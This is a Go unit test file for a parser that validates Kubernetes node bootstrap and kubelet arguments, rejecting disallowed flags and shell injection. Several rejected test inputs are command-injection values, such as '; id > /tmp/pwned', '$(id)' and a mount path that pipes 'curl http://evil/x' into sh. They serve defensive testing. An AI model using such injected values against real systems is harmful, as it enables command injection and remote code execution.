package nodeargs

import (
	"reflect"
	"strings"
	"testing"
)

func TestParse(t *testing.T) {
	for _, tc := range []struct {
		in        string
		bootstrap []string
		kubelet   []string
		err       string
	}{
		{in: ""},
		{in: "--kubelet-extra-args=--v=2", kubelet: []string{"--v=2"}},
		{in: "--kubelet-extra-args '--v=2 --max-pods=20' --container-runtime containerd", bootstrap: []string{"--container-runtime=containerd"}, kubelet: []string{"--v=2", "--max-pods=20"}},
		{in: `--kubelet-extra-args "--eviction-hard=memory.available<100Mi" --use-max-pods=false`, bootstrap: []string{"--use-max-pods=false"}, kubelet: []string{"--eviction-hard=memory.available<100Mi"}},
		{in: "--kubelet-extra-args '--v=2' ; id > /tmp/pwned", err: `shell metacharacter ';'`},
		{in: "--kubelet-extra-args '--v=2;id'", err: `the value "2;id" of --v has characters that are not allowed`},
		{in: "--kubelet-extra-args '--v=$(id)'", err: "not allowed"},
		// N16: flags that reach every pod on the node, and verbose logs.
		{in: "--pause-container-account 111122223333", err: "bootstrap flag --pause-container-account is not allowed: it chooses the account of the pod sandbox"},
		{in: "--dns-cluster-ip=10.0.0.10", err: "bootstrap flag --dns-cluster-ip is not allowed: it chooses the DNS server"},
		{in: "--kubelet-extra-args=--v=10", err: "kubelet flag --v=10: the log level must be 0 to 4"},
		{in: "--kubelet-extra-args=--v=5", err: "the log level must be 0 to 4"},
		{in: "--kubelet-extra-args=--v", err: "the log level must be 0 to 4"},
		{in: "--kubelet-extra-args=--v=-1", err: "the log level must be 0 to 4"},
		{in: "--kubelet-extra-args=--v=4", kubelet: []string{"--v=4"}},
		{in: "--kubelet-extra-args '--register-with-taints='", err: "kubelet flag --register-with-taints cannot be set through bootstrapArguments: set taints in spec.eks.configuration.taints"},
		{in: "--kubelet-extra-args=--node-labels=instancemgr.keikoproj.io/namespace=payments", err: "kubelet flag --node-labels cannot be set"},
		{in: "--kubelet-extra-args '--provider-id=aws:///x/i-1'", err: "--provider-id cannot be set"},
		{in: "--kubelet-extra-args '--anonymous-auth=true'", err: "kubelet flag --anonymous-auth is not allowed (allowed: --container-log-max-files"},
		{in: "--b64-cluster-ca abc", err: "bootstrap flag --b64-cluster-ca is not allowed"},
		{in: "--kubelet-extra-args '--v=2", err: "unbalanced ' quote"},
		{in: "curl", err: `"curl" is not a flag`},
		{in: "--kubelet-extra-args", err: "needs kubelet flags"},
	} {
		t.Run(tc.in, func(t *testing.T) {
			got, err := Parse(tc.in)
			if tc.err != "" {
				if err == nil || !strings.Contains(err.Error(), tc.err) {
					t.Fatalf("Parse(%q) error = %v, want one containing %q", tc.in, err, tc.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got.Bootstrap, tc.bootstrap) || !reflect.DeepEqual(got.Kubelet, tc.kubelet) {
				t.Errorf("Parse(%q) = %+v, want bootstrap %v kubelet %v", tc.in, got, tc.bootstrap, tc.kubelet)
			}
		})
	}
}

func TestPatterns(t *testing.T) {
	for _, tc := range []struct {
		name   string
		ok     bool
		target interface{ MatchString(string) bool }
		value  string
	}{
		{"device", true, DeviceName, "/dev/xvdb"},
		{"device nvme", true, DeviceName, "/dev/nvme1n1"},
		{"device with shell", false, DeviceName, "/dev/xvdb;id"},
		{"mount", true, MountPath, "/var/lib/data-1"},
		{"mount with shell", false, MountPath, "/data; curl http://evil/x | sh #"},
		{"mount relative", false, MountPath, "data"},
		{"file system", true, FileSystem, "ext4"},
		{"file system with shell", false, FileSystem, "xfs && id"},
	} {
		if got := tc.target.MatchString(tc.value); got != tc.ok {
			t.Errorf("%s: %q matched = %v, want %v", tc.name, tc.value, got, tc.ok)
		}
	}
}

func TestShellQuote(t *testing.T) {
	if got := ShellQuote(`it's`); got != `'it'\''s'` {
		t.Errorf("ShellQuote = %s", got)
	}
}
